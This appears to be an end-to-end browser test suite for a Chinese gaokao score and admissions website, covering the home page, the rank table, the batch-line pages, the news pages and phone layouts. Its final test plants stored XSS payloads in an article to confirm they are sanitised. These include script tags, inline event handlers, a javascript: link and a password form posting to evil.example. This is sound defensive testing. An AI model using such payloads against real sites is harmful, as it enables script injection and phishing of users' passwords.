import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { gzipSync } from 'node:zlib'
import {
  CONTENT_TEXT,
  DATA_DISCLAIMER,
  getInfoPublish,
  getPcxNf,
  HOME_ENTRIES,
  queryInfoList,
  queryNoticeList,
  queryPcx,
  queryRecommendHome,
  queryScoreByWc,
  queryWc,
  queryWcList,
  SHELL_TEXT,
  VALIDATION_TEXT,
} from '@gaokao/contracts'
import Database from 'better-sqlite3'
import { afterAll, describe, expect, inject, it } from 'vitest'
// The stack's upstream, asked directly for the figures the pages must show.
import { askUpstream as upstream } from './support/ask-upstream.js'
import { PHONE, useBrowser } from './support/browser.js'
import { latestYearOf } from './support/dataset.js'
import { expectNoSideScroll, poll, visitorIn } from './support/province-pages.js'
import { pageSettled, settled, snapshot } from './support/settled.js'

const browser = useBrowser()
const openIn = visitorIn(browser)
const WEB_DIST = fileURLToPath(new URL('../web/dist', import.meta.url))

const fmt = (n: number) => n.toLocaleString('zh-CN')

describe('home', () => {
  it('shows entry cards, notices, news, the schools for the province, high-pay majors and the footer hotline and data disclaimer; first-load JS is measured', async () => {
    const { page } = await openIn('河南')
    const scripts: string[] = []
    page.on('response', (r) => {
      if (r.request().resourceType() === 'script') scripts.push(new URL(r.url()).pathname)
    })
    await page.goto('/', { waitUntil: 'networkidle' })

    const entries = page.getByRole('navigation', { name: '常用功能' }).getByRole('link')
    await poll(() => entries.count()).toBe(HOME_ENTRIES.length)
    expect(await entries.first().getAttribute('href')).toBe('/college')

    const notices = await upstream(queryNoticeList, { pageNum: 1, pageSize: 5 })
    const news = await upstream(queryInfoList, { pageNum: 1, pageSize: 6, kind: 'news' })
    const noticeBox = page.getByRole('region', { name: '网站公告' })
    const newsBox = page.getByRole('region', { name: '最新资讯' })
    await poll(() => noticeBox.getByRole('listitem').allTextContents()).toEqual(
      notices.list.map((a) => `${a.title}${a.date.slice(5)}`),
    )
    expect(await newsBox.getByRole('listitem').count()).toBe(news.list.length)
    expect(await newsBox.getByRole('link', { name: news.list[0]?.title }).getAttribute('href')).toBe(
      `/information/${news.list[0]?.id}`,
    )

    const schools = await upstream(queryRecommendHome, { province: '河南', limit: 8 })
    const schoolBox = page.getByRole('region', { name: '河南考生热门院校' })
    const schoolLinks = schoolBox.getByRole('listitem').getByRole('link')
    await poll(() => schoolLinks.count()).toBe(8)
    const first = schools.list[0]
    if (!first) throw new Error('no recommended school')
    expect(await schoolLinks.first().getAttribute('href')).toBe(`/college/${first.id}`)
    expect(await schoolLinks.first().textContent()).toContain(`${schools.year}年物理类最低分 ${first.minScore}`)
    expect(await schoolBox.getByText(`示例数据 · ${schools.year}年`).count()).toBe(1)

    const majors = page.getByRole('region', { name: '热门与高薪专业' })
    await poll(() => majors.getByRole('listitem').count()).toBe(16)
    expect(await majors.getByText(/元\/月 · 就业率 \d+\.\d%/).count()).toBe(16)

    const footer = page.getByRole('contentinfo')
    await poll(() => footer.getByRole('link', { name: SHELL_TEXT.agreementLink }).count()).toBe(1)
    // The data disclaimer (docs/spec-rules.md, Product), word for word; no hotline is configured, so none is spoken of.
    expect(await footer.getByText(DATA_DISCLAIMER, { exact: true }).count()).toBe(1)
    expect(await footer.getByText(/热线/).count()).toBe(0)
    await snapshot(page, 'home-explore-desktop.png', { fullPage: true })

    // First-load JS: what the browser fetched for this visit, gzipped as the bff serves it.
    const unique = [...new Set(scripts)].filter((p) => p.startsWith('/assets/'))
    const gzipped = unique.map((p) => gzipSync(readFileSync(join(WEB_DIST, p)), { level: 9 }).length)
    const total = gzipped.reduce((s, n) => s + n, 0)
    // Reported for the note (goal: under 200 kB); the figure depends on the whole shell, so it is printed, not asserted.
    console.info(
      `home first-load JS: ${unique.length} files, ${total} B gzip (${(total / 1024).toFixed(1)} KiB, ${(total / 1000).toFixed(1)} kB)`,
    )
    expect(unique.length).toBeGreaterThan(0)
  })

  it('checks the score-to-rank box in its order (province, subjects, score) and answers the rank of queryWc', async () => {
    const { page } = await openIn('河南')
    await page.goto('/')
    const box = page.getByRole('region', { name: '分数查位次' })
    const submit = box.getByRole('button', { name: '查位次' })
    const message = box.getByRole('alert')
    await poll(() => box.getByLabel('省份').inputValue()).toBe('河南')

    await submit.click()
    await poll(() => message.textContent()).toBe(VALIDATION_TEXT.subjectCount)
    await box.getByText('物理', { exact: true }).click()
    await box.getByText('化学', { exact: true }).click()
    await submit.click()
    await poll(() => message.textContent()).toBe(VALIDATION_TEXT.subjectCount)
    await box.getByText('生物', { exact: true }).click()
    await submit.click()
    await poll(() => message.textContent()).toBe(VALIDATION_TEXT.scoreRequired)
    await box.getByLabel('分数').fill('800')
    await submit.click()
    await poll(() => message.textContent()).toBe(VALIDATION_TEXT.scoreRange)

    await box.getByLabel('分数').fill('750')
    await submit.click()
    await poll(() => message.textContent()).toBe(VALIDATION_TEXT.rankNotFound)

    // queryWc ranks in the province's newest table: the box names its year.
    const rank = await upstream(queryWc, { province: '河南', xk: '物/化/生', score: 600 })
    const year = await latestYearOf('河南')
    await box.getByLabel('分数').fill('600')
    await submit.click()
    await poll(() => box.getByText(`${year}年位次：${fmt(rank)}`).count()).toBe(1)
    await box.getByRole('link', { name: '查看一分一段表' }).click()
    await poll(() => page.url()).toContain('/rank?')
    const url = new URL(page.url())
    expect(Object.fromEntries(url.searchParams)).toEqual({ province: '河南', track: '物理类', score: '600' })
    await poll(() => page.getByText(`600分 → 位次 ${fmt(rank)}`, { exact: false }).count()).toBe(1)
  })

  it('fits a phone: no side scroll, 40 px targets', async () => {
    const { page } = await openIn('广东', PHONE)
    await page.goto('/', { waitUntil: 'networkidle' })
    await poll(() => page.getByRole('region', { name: '广东考生热门院校' }).getByRole('link').count()).toBeGreaterThan(
      8,
    )
    await expectNoSideScroll(page)
    const box = page.getByRole('region', { name: '分数查位次' })
    for (const target of [box.getByRole('button', { name: '查位次' }), box.getByText('物理', { exact: true })]) {
      const size = await (await settled(target)).boundingBox()
      expect(size?.height ?? 0).toBeGreaterThanOrEqual(40)
    }
    await snapshot(page, 'home-explore-phone.png', { fullPage: true })
  })
})

describe('/rank', () => {
  it('shows the newest table of the user’s province, pages it, looks up both ways and keeps everything in the URL', async () => {
    const { page } = await openIn('河南')
    await page.goto('/rank')
    await poll(() => page.getByRole('heading', { level: 1 }).textContent()).toBe('一分一段')
    const year = await latestYearOf('河南')
    const first = await upstream(queryWcList, {
      province: '河南',
      year,
      track: '物理类',
      pageNum: 1,
      pageSize: 50,
    })
    await poll(() =>
      page.getByText(`${year}年河南物理类：共 ${fmt(first.candidates)} 人，最高分 ${first.topScore} 分`).count(),
    ).toBe(1)
    expect(await page.getByRole('radio', { name: `${year}年` }).isChecked()).toBe(true)
    expect(await page.getByRole('radio', { name: '物理类' }).isChecked()).toBe(true)
    // The table itself: a looked-up score adds the 历年等位分 table above it.
    const table = page.getByRole('region', { name: '一分一段表', exact: true }).getByRole('table')
    const firstCells = () => table.locator('tbody tr').first().locator('td').allTextContents()
    await poll(firstCells).toEqual([String(first.list[0]?.score), fmt(first.list[0]?.count ?? 0), fmt(1)])
    expect(await table.locator('tbody tr').count()).toBe(50)
    expect(await page.getByText(`示例数据 · ${year}年`).count()).toBeGreaterThan(0)

    // The chart draws (ECharts, SVG) with the batch lines marked.
    const chart = page.getByRole('img', { name: `${year}年河南物理类各分数人数分布图` })
    // Charts draw once they come near the screen (Chart.tsx).
    await chart.scrollIntoViewIfNeeded()
    await poll(() => chart.locator('svg path').count()).toBeGreaterThan(2)
    const lines = await upstream(queryPcx, { province: '河南', year, track: '物理类' })
    const undergrad = lines.find((l) => l.batch === '本科批')
    await poll(() => chart.getByText(`本科批 ${undergrad?.score}`).count()).toBe(1)

    // Page 2 through the pagination: the URL says so and a reload keeps it.
    await page.getByRole('button', { name: '第2页' }).click()
    await poll(() => new URL(page.url()).searchParams.get('page')).toBe('2')
    await poll(async () => (await firstCells())[0]).toBe(String(first.topScore - 50))
    await page.reload()
    await poll(async () => (await firstCells())[0]).toBe(String(first.topScore - 50))

    // Score to rank.
    const scoreBox = page.getByRole('textbox', { name: '分数查位次' })
    await scoreBox.fill('')
    await page.getByRole('button', { name: '查询' }).first().click()
    await poll(() => page.getByRole('alert').first().textContent()).toBe(VALIDATION_TEXT.scoreRequired)
    const at600 = await upstream(queryWcList, {
      province: '河南',
      year,
      track: '物理类',
      minScore: 600,
      maxScore: 600,
      pageNum: 1,
      pageSize: 1,
    })
    await scoreBox.fill('600')
    await page.getByRole('button', { name: '查询' }).first().click()
    const scoreText = `600分 → 位次 ${fmt(at600.list[0]?.rank ?? 0)}（本段 ${fmt(at600.list[0]?.count ?? 0)} 人）`
    await poll(() => page.getByText(scoreText).count()).toBe(1)
    expect(new URL(page.url()).searchParams.get('score')).toBe('600')

    // Rank to score; then the score lookup's 在表中查看 opens the page holding 600's row, marked
    // (e2e/rank-equal-scores.e2e.ts checks that it scrolls there).
    const wc = 100_000
    const byWc = await upstream(queryScoreByWc, { province: '河南', year, track: '物理类', wc })
    await page.getByRole('textbox', { name: '位次查分数' }).fill(String(wc))
    await page.getByRole('button', { name: '查询' }).nth(1).click()
    const wcText = `位次 ${fmt(wc)} → ${byWc.score}分（${byWc.score}分及以上共 ${fmt(byWc.rank)} 人）`
    await poll(() => page.getByText(wcText).count()).toBe(1)
    await page.getByRole('button', { name: '在表中查看' }).first().click()
    await poll(() => new URL(page.url()).searchParams.get('row')).toBe('600')
    await poll(() => table.locator('tr[data-highlight="true"] td').first().textContent()).toBe('600')
    await snapshot(page, 'rank-desktop.png', { fullPage: true })

    // A rank beyond the table is refused with the upstream's text.
    await page.getByRole('textbox', { name: '位次查分数' }).fill(String(first.candidates + 1))
    await page.getByRole('button', { name: '查询' }).nth(1).click()
    await poll(() => page.getByText(`超出本表考生总数（${fmt(first.candidates)}人），未查询到对应分数`).count()).toBe(1)

    // Another track: the URL changes, the range goes, the lookup of 600 stays and is answered for that table.
    await page.getByRole('group', { name: '科类' }).getByText('历史类', { exact: true }).click()
    await poll(() => new URL(page.url()).searchParams.get('track')).toBe('历史类')
    expect(new URL(page.url()).searchParams.get('min')).toBeNull()
    await poll(() => page.getByText(new RegExp(`^${year}年河南历史类：共`)).count()).toBe(1)
  })

  it('fits a phone', async () => {
    const { page } = await openIn('江苏', PHONE)
    await page.goto('/rank?score=580')
    const table = page.getByRole('region', { name: '一分一段表', exact: true }).getByRole('table')
    await poll(() => table.locator('tbody tr').count()).toBe(50)
    await poll(() => page.getByText(/^580分 → 位次/).count()).toBe(1)
    await expectNoSideScroll(page)
    const radio = page.getByRole('group', { name: '科类' }).getByText('物理类', { exact: true })
    expect((await (await settled(radio)).boundingBox())?.height ?? 0).toBeGreaterThanOrEqual(40)
    await snapshot(page, 'rank-phone.png', { fullPage: true })
  })
})

describe('/batch', () => {
  // 福建 sat the new-style exam in each year the site holds, so its 物理类 trend spans them all (河南's starts in 2025).
  it('shows the year’s batch lines of the track and their trend; year and track live in the URL', async () => {
    const { page } = await openIn('福建')
    await page.goto('/batch')
    await poll(() => page.getByRole('heading', { level: 1 }).textContent()).toBe('批次线')
    const years = await upstream(getPcxNf, { province: '福建' })
    const [year, oldest] = [years[0] ?? 0, years.at(-1) ?? 0]
    expect(year).toBe(await latestYearOf('福建'))
    const lines = await upstream(queryPcx, { province: '福建', year, track: '物理类' })
    const rows = page.getByRole('table').locator('tbody tr')
    await poll(() => rows.allTextContents()).toEqual(lines.map((l) => `${l.track}${l.batch}${l.score}分${fmt(l.rank)}`))
    expect(
      await page
        .getByRole('heading', { name: `${year}年福建批次线` })
        .getByText(`示例数据 · ${year}年`)
        .count(),
    ).toBe(1)
    const trend = page.getByRole('img', { name: `福建物理类${oldest}-${year}年各批次分数线折线图` })
    await trend.scrollIntoViewIfNeeded()
    await poll(() => trend.locator('svg').count()).toBe(1)
    await poll(() => trend.getByText('特殊类型招生控制线').count()).toBeGreaterThan(0)
    await snapshot(page, 'batch-desktop.png', { fullPage: true })

    await page.getByRole('group', { name: '年份' }).getByText(`${oldest}年`, { exact: true }).click()
    await page.getByRole('group', { name: '科类' }).getByText('历史类', { exact: true }).click()
    await poll(() => Object.fromEntries(new URL(page.url()).searchParams)).toEqual({
      year: String(oldest),
      track: '历史类',
    })
    const older = await upstream(queryPcx, { province: '福建', year: oldest, track: '历史类' })
    await poll(() => rows.first().textContent()).toBe(
      `历史类${older[0]?.batch}${older[0]?.score}分${fmt(older[0]?.rank ?? 0)}`,
    )
  })

  it('fits a phone', async () => {
    const { page } = await openIn('山东', PHONE)
    await page.goto('/batch')
    // 山东's newest table is published and stops near the 本科 line: its year has no 专科 line (docs/real-data.md).
    const lines = await upstream(queryPcx, { province: '山东', year: await latestYearOf('山东'), track: '综合' })
    expect(lines.length).toBeGreaterThan(1)
    await poll(() => page.getByRole('table').locator('tbody tr').count()).toBe(lines.length)
    expect(await page.getByRole('radio', { name: '综合' }).isChecked()).toBe(true)
    await expectNoSideScroll(page)
    await snapshot(page, 'batch-phone.png', { fullPage: true })
  })
})

describe('/information', () => {
  it('lists news and notices in tabs, paged by the server, and opens an article', async () => {
    const { page } = await openIn('江苏')
    await page.goto('/information')
    const news = await upstream(queryInfoList, { pageNum: 2, pageSize: 10, kind: 'news' })
    const list = page.getByRole('list', { name: '文章列表' })
    await poll(() => list.getByRole('listitem').count()).toBe(10)
    await page.getByRole('button', { name: '第2页' }).click()
    await poll(() => new URL(page.url()).searchParams.get('page')).toBe('2')
    await poll(() => list.getByRole('heading', { level: 2 }).first().textContent()).toBe(news.list[0]?.title)
    await snapshot(page, 'information-desktop.png', { fullPage: true })

    await page.getByRole('tab', { name: '网站公告' }).click()
    await poll(() => Object.fromEntries(new URL(page.url()).searchParams)).toEqual({ tab: 'notice' })
    const notices = await upstream(queryNoticeList, { pageNum: 1, pageSize: 10 })
    await poll(() => list.getByRole('heading', { level: 2 }).allTextContents()).toEqual(
      notices.list.map((a) => a.title),
    )

    // An article with a table: the heading is its title, the body renders, wide tables scroll inside.
    const candidates = (await upstream(queryInfoList, { pageNum: 1, pageSize: 50, keyword: '一分一段表' })).list
    const details = await Promise.all(candidates.map((a) => upstream(getInfoPublish, { id: a.id })))
    const withTable = details.find((a) => a.body.includes('<table>'))
    if (!withTable) throw new Error('no article with a table')
    await page.goto(`/information/${withTable.id}`)
    await poll(() => page.getByRole('heading', { level: 1 }).textContent()).toBe(withTable.title)
    await poll(() => page.getByRole('article').locator('table').count()).toBe(1)
    await snapshot(page, 'information-article-desktop.png', { fullPage: true })
  })

  it('shows the error state for an article that does not exist', async () => {
    const { page } = await openIn('江苏')
    await page.goto('/information/987654')
    await poll(() => page.getByRole('alert').first().textContent()).toContain(CONTENT_TEXT.articleNotFound)
  })

  it('fits a phone', async () => {
    const { page } = await openIn('江苏', PHONE)
    await page.goto('/information')
    await poll(() => page.getByRole('list', { name: '文章列表' }).getByRole('listitem').count()).toBe(10)
    await expectNoSideScroll(page)
    await snapshot(page, 'information-phone.png', { fullPage: true })
  })
})

describe('a stored XSS payload in an article', () => {
  const XSS_ID = 990_001
  const db = new Database(join(inject('upstreamDataDir'), 'gaokao.sqlite'))
  db.pragma('busy_timeout = 5000')
  afterAll(() => {
    db.prepare('DELETE FROM articles WHERE id = ?').run(XSS_ID)
    db.close()
  })

  it('renders as text and markup only: no script runs, no handler, no javascript: link', async () => {
    const body = [
      '<p>正文第一段</p>',
      '<script>window.__xss = "script"</script>',
      '<img src="/no-such.png" onerror="window.__xss = \'img\'">',
      '<svg><animate onbegin="window.__xss = \'svg\'" attributeName="x" dur="1s"></animate></svg>',
      '<iframe srcdoc="<script>parent.__xss = \'iframe\'</script>"></iframe>',
      '<p><a href="javascript:window.__xss = \'link\'">点我领取</a></p>',
      '<p onmouseover="window.__xss = \'hover\'">悬停</p>',
      '<form action="https://evil.example/"><input name="password"><button>提交</button></form>',
    ].join('')
    db.prepare(
      `INSERT OR REPLACE INTO articles (id, kind, title, date, source, summary, body)
       VALUES (?, 'news', ?, '2000-01-01', '测试', '测试摘要', ?)`,
    ).run(XSS_ID, '<img src=x onerror="window.__xss = \'title\'">标题', body)
    // The upstream answers the row as stored: the payload reaches the browser.
    expect((await upstream(getInfoPublish, { id: XSS_ID })).body).toBe(body)

    const session = await openIn('江苏')
    const { page } = session
    const dialogs: string[] = []
    page.on('dialog', (d) => {
      dialogs.push(d.message())
      void d.dismiss()
    })
    await page.goto(`/information/${XSS_ID}`, { waitUntil: 'networkidle' })
    const article = page.getByRole('article')
    await poll(() => article.getByText('正文第一段').count()).toBe(1)
    // The title is text, not markup.
    expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe(
      '<img src=x onerror="window.__xss = \'title\'">标题',
    )
    await article.getByText('悬停').hover()
    await article.getByText('点我领取').click()
    // Whatever the hover and the click could set off has happened once the page is at rest.
    await pageSettled(page)

    expect(await page.evaluate(() => (window as unknown as { __xss?: string }).__xss)).toBeUndefined()
    expect(dialogs).toEqual([])
    expect(await article.locator('script, img, svg, iframe, form, input, [onerror], [onmouseover]').count()).toBe(0)
    expect(await article.getByText('点我领取').getAttribute('href')).toBeNull()
    expect(new URL(page.url()).pathname).toBe(`/information/${XSS_ID}`)
    // Sanitizing parses the stored markup in an inert document; Chromium still reports each inline handler
    // it meets there against the bff's CSP (script-src 'self'). Those reports are all that may appear: nothing ran.
    const reports = session.errors.filter((e) => e.startsWith('Executing inline event handler violates'))
    expect(session.errors.filter((e) => !reports.includes(e))).toEqual([])
    session.errors.length = 0
    await snapshot(page, 'information-xss.png', { fullPage: true })
  })
})
